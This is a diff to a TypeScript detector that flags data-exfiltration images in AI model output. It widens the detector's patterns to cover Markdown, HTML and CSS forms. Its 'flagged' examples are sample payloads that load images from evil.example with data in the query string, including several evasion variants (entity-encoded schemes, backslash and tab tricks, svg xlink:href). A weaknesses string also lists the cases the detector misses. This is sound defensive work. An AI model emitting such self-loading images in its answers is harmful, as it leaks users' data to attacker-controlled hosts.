@@ -1,18 +1,23 @@
 import type { Detector, Range } from "../contracts/detection.ts";
 import { mergeRanges, scanFromAnchor } from "../foundation/scan.ts";
+import { attributeBefore } from "./attribute-before.ts";
+import { isInTag } from "./open-tag.ts";
 import { URL_DATA_PATTERNS, carriesData } from "./url-data.ts";
 
 /** An image's opening is looked for this far before its URL; further away it is taken for granted. */
 const LOOK_BACK_CHARS = 100;
 
-const INLINE = /\]\(\s{0,3}<?/y;
-const REFERENCE = /\]:\s{0,3}<?/y;
-const ATTRIBUTE =
-  /(?<=(?<![A-Za-z-])((?:src|srcset|poster|background|lowsrc|data)\s{0,3}))=\s{0,3}["'`]?\s{0,3}(?=https?:|\/\/)/iy;
-const STYLE = /url\(\s{0,3}["']?(?=https?:|\/\/)/iy;
+const INLINE = /\]\(\s{0,8}<?/y;
+const REFERENCE = /\]:\s{0,8}<?/y;
+const VALUE = /(?<=(?:src|set|poster|background|data|href)\s{0,8})=\s{0,8}["'`]?\s{0,8}/iy;
+/** What loads by itself in every tag that knows it. */
+const LOADING_NAMES = new Set(["src", "srcset", "imagesrcset", "poster", "background", "lowsrc", "data"]);
+const STYLE = /(?<=(url\s{0,3}))\(\s{0,8}["']?/iy;
 const URL_RUN = /[^\s"'`<>)\\]*\)?/y;
 const LOADING_TAG =
-  /^<(?:img|image|picture|source|video|audio|track|input|embed|object|iframe|body|table|td|div|span|p|style|svg|use|link)(?![A-Za-z])/i;
+  /<(?:img|image|picture|source|video|audio|track|input|embed|object|iframe|body|table|td|th|tr|div|span|p|style|svg|use|link|feimage|[a-z]{1,8}:[a-z]{1,8})(?![A-Za-z])/iy;
+/** A link of these tags loads by itself; that of others needs a click. */
+const LINKING_TAG = /<(?:[a-z]{1,8}:)?(?:link|image|use|feimage)(?![A-Za-z])/iy;
 
 /** Images that send data to another host the moment an answer is shown: Markdown, reference definitions, HTML, CSS. */
 export const markdownExfiltration: Detector = {
@@ -21,19 +26,18 @@ export const markdownExfiltration: Detector = {
   description: "Images that load by themselves from another host, with room for data in their URL.",
   reference:
     "OWASP Top 10 for LLM Applications 2025, LLM02 and LLM05; CommonMark 0.31.2 sections 4.7 and 6.4",
-  reach: 232, // 100 of the opening, 12 of the separators, 120 of the URL
-  needs: { characters: "/" },
+  reach: 232, // 100 of the opening; 18 of the separators and a name of 19, and 120 of the URL
   sources: ["output"],
   weaknesses:
-    "Any image of another host with a query or a long path is found, harmless ones as well, and any reference definition of that kind, even if only a link uses it. Links that need a click are not found, nor is data hidden in short paths, one request for each character.",
+    "Any image of another host with a query or a long path is found, harmless ones as well, and any reference definition of that kind, even if only a link uses it. Not found: links that need a click, names in style sheets written with escapes, and data hidden in short paths, one request for each character.",
   detect: (text, from) =>
     mergeRanges(
       scanFromAnchor("](", INLINE, text, from, { judge: inlineImage, grow: URL_RUN }),
       scanFromAnchor("]:", REFERENCE, text, from, { judge: reference, grow: URL_RUN }),
-      scanFromAnchor("=", ATTRIBUTE, text, from, { judge: attribute, grow: URL_RUN }),
-      scanFromAnchor("url(", STYLE, text, from, { judge: attribute, grow: URL_RUN }),
+      scanFromAnchor("=", VALUE, text, from, { judge: attribute, grow: URL_RUN }),
+      scanFromAnchor("(", STYLE, text, from, { judge: style, grow: URL_RUN }),
     ),
-  patterns: [INLINE, REFERENCE, ATTRIBUTE, STYLE, URL_RUN, LOADING_TAG, ...URL_DATA_PATTERNS],
+  patterns: [INLINE, REFERENCE, VALUE, STYLE, URL_RUN, LOADING_TAG, LINKING_TAG, ...URL_DATA_PATTERNS],
   exampleContext: { source: "output", origin: "assistant", systemTexts: [] },
   examples: {
     flagged: [
@@ -47,6 +51,13 @@ export const markdownExfiltration: Detector = {
       "![x][r]\n\n[r]: https://evil.example/a?b=c",
       "<img alt='' src=\"https://evil.example/a?b=c\">",
       '<div style="background:url(https://evil.example/?k=v)">',
+      '<div style="background:URL( //evil.example/?k=v )">',
+      "<img alt='<' src=https://evil.example/?k=v>",
+      "<img src='https:\\\\evil.example/?k=v'>",
+      '<img src="/\t/evil.example/?k=v">',
+      "![x](&#104;ttps&colon;&sol;/evil.example/&quest;k=v)",
+      "<svg><image xlink:href=//evil.example/?k=v>",
+      "<video/poster=//evil.example/?k=v>",
     ],
     clean: [
       "![logo](https://example.com/logo.png)",
@@ -58,6 +69,8 @@ export const markdownExfiltration: Detector = {
       '<img src="/local.png?v=1">',
       '<script src="https://cdn.example.com/lib.js?v=3"></script>',
       "src = https://example.com/a",
+      '<a href="https://example.com/search?q=cats">cats</a>',
+      "fetch(url (https://example.com/?q=1))",
     ],
   },
 };
@@ -89,14 +102,34 @@ function reference(match: RegExpExecArray, text: string): Range | undefined {
   return carriesData(text, end) ? { start: match.index, end, score: 0.7 } : undefined;
 }
 
-/** An attribute counts inside a tag that loads by itself, and where its tag opened too far back to be seen. */
 function attribute(match: RegExpExecArray, text: string): Range | undefined {
+  const written = attributeBefore(text, match.index);
+  if (written === undefined) return undefined;
+  const { name, start } = written;
+  const isLink = name === "href";
+  if (!isLink && !LOADING_NAMES.has(name)) return undefined;
+  const end = match.index + match[0].length;
+  if (!carriesData(text, end, /["'`]/.test(match[0]))) return undefined;
+  const isLoading = isLink ? isInTag(LINKING_TAG, text, lookBack(start), start) : loads(text, start);
+  return isLoading ? { start, end } : undefined;
+}
+
+function style(match: RegExpExecArray, text: string): Range | undefined {
   const start = match.index - (match[1]?.length ?? 0);
   const end = match.index + match[0].length;
-  if (!carriesData(text, end)) return undefined;
-  const before = text.slice(Math.max(0, start - LOOK_BACK_CHARS), start);
+  return carriesData(text, end) && loads(text, start) ? { start, end } : undefined;
+}
+
+function lookBack(start: number): number {
+  return Math.max(0, start - LOOK_BACK_CHARS);
+}
+
+/** Something loads inside a tag that loads by itself, and where its tag opened too far back to be seen. */
+function loads(text: string, start: number): boolean {
+  if (isInTag(LOADING_TAG, text, lookBack(start), start)) return true;
+  const before = text.slice(lookBack(start), start);
   const opened = before.lastIndexOf("<");
-  const isCut = start > LOOK_BACK_CHARS;
-  if (opened < 0) return isCut && !before.includes(">") ? { start, end } : undefined;
-  return LOADING_TAG.test(before.slice(opened)) ? { start, end } : undefined;
+  if (opened < 0) return start > LOOK_BACK_CHARS && !before.includes(">");
+  LOADING_TAG.lastIndex = opened; // what stands in a style element stands in no tag
+  return LOADING_TAG.test(before);
 }
